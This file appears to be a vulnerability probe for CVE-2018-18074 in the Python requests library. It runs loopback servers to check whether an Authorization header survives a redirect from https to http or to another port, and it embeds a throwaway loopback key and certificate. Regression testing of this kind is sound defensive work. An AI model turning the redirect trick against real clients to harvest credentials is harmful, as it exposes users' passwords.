# /// vertice-probe
# id = "PYSEC-2018-28"
# aliases = ["CVE-2018-18074", "GHSA-x84v-xcm2-53pg"]
# package = "requests"
# summary = "The Authorization header stays on when a redirect goes from https to http or to another port of the host."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N" }]
# cwe = ["CWE-522"]
# kind = "leak"
# symbols = [
#   "requests.get",
#   "requests.post",
#   "requests.request",
#   "requests.Session",
#   "requests.session",
#   "requests.sessions.SessionRedirectMixin.rebuild_auth",
# ]
#
# [[affected]]
# package = "requests"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "2.20.0" }] }]
#
# [cases]
# attack = "a redirect from https to http on the same host carries the password in clear"
# [cases.variants]
# other_port = "a redirect to another port of the same host carries an Authorization header given by hand"
# [cases.controls]
# same_origin = "a redirect within the same origin keeps the credentials"
#
# [test]
# vulnerable = "2.19.1"
# fixed = "2.20.0"
# python = ">=3.7,<3.12"
# ///
"""CVE-2018-18074: credentials follow a redirect to another scheme or port."""

import http.server
import json
import os
import ssl
import sys
import tempfile
import threading
import warnings

warnings.simplefilter("ignore")
# A key and a certificate for 127.0.0.1 made for this probe; worth nothing elsewhere.
PAIR = """\
-----BEGIN PRIVATE KEY-----
MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgDJ/gBVurXrfU9aOR
9JgZeq5cuvs57cEftb8GOinjx+OhRANCAASgxXwxEg/JhexZniMc+QXokUZnQdyu
CVrkPFDeHcgCR/oRkSCWztFLDY44aQsP25NEBybZe9vLQG0sbRD5/BbI
-----END PRIVATE KEY-----
-----BEGIN CERTIFICATE-----
MIIBSTCB8aADAgECAgEBMAoGCCqGSM49BAMCMBkxFzAVBgNVBAMMDmxvb3BiYWNr
IHByb2JlMB4XDTAwMDEwMTAwMDAwMFoXDTQ5MTIzMTAwMDAwMFowGTEXMBUGA1UE
AwwObG9vcGJhY2sgcHJvYmUwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAASgxXwx
Eg/JhexZniMc+QXokUZnQdyuCVrkPFDeHcgCR/oRkSCWztFLDY44aQsP25NEBybZ
e9vLQG0sbRD5/BbIoyowKDAVBgNVHREEDjAMhwR/AAABhwR/AAACMA8GA1UdEwEB
/wQFMAMBAf8wCgYIKoZIzj0EAwIDRwAwRAIgW06CPc7A7NGqiUVFGgOMTWztcfit
jLU4kdj2XCJn1poCICmH+5Wmfr/+ZznvJgltJ9lBMp16L+ojLMAKvWcGtWBt
-----END CERTIFICATE-----
"""


def pair_file():
    handle, path = tempfile.mkstemp()
    with os.fdopen(handle, "w") as out:
        out.write(PAIR)
    return path


def tls_context():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(pair_file())
    return context


class Site(object):
    """A web server on a loopback address: redirects by path, notes what it gets; with TLS if asked."""

    def __init__(self, host, tls=False):
        self.redirects, self.seen = {}, []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                site.seen.append((self.path, self.headers.get("Authorization")))
                target = site.redirects.get(self.path)
                self.send_response(302 if target else 200)
                if target:
                    self.send_header("Location", target)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        server = http.server.ThreadingHTTPServer((host, 0), Handler)
        server.daemon_threads = True
        if tls:
            server.socket = tls_context().wrap_socket(server.socket, server_side=True)
        self.url = "%s://%s:%d" % ("https" if tls else "http", host, server.server_address[1])
        threading.Thread(target=server.serve_forever, daemon=True).start()


def direct():
    import requests

    session = requests.Session()
    session.trust_env, session.verify = False, False
    return session


def look(first, second):
    if [path for path, _ in second.seen] != ["/end"] or not first.seen or not first.seen[0][1]:
        return "error", "the redirect was not followed: %r %r" % (first.seen, second.seen)
    if second.seen[0][1]:
        return "exploited", "the Authorization header reached %s" % second.url.split(":")[0]
    return "blocked", "the redirect was followed without the Authorization header"


def attack():
    first, second = Site("127.0.0.1", tls=True), Site("127.0.0.1")
    first.redirects["/start"] = second.url + "/end"
    direct().get(first.url + "/start", auth=("bob", "secret"))
    return look(first, second)


def other_port():
    first, second = Site("127.0.0.1"), Site("127.0.0.1")
    first.redirects["/start"] = second.url + "/end"
    direct().get(first.url + "/start", headers={"Authorization": "Bearer secret"})
    return look(first, second)


def same_origin():
    site = Site("127.0.0.1")
    site.redirects["/start"], site.redirects["/next"] = "/next", site.url + "/end"
    direct().get(site.url + "/start", auth=("bob", "secret"))
    got = [(path, bool(header)) for path, header in site.seen]
    good = got == [("/start", True), ("/next", True), ("/end", True)]
    return ("works", "two redirects kept the header") if good else ("broken", repr(got))


CASES = {"attack": attack, "other_port": other_port, "same_origin": same_origin}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
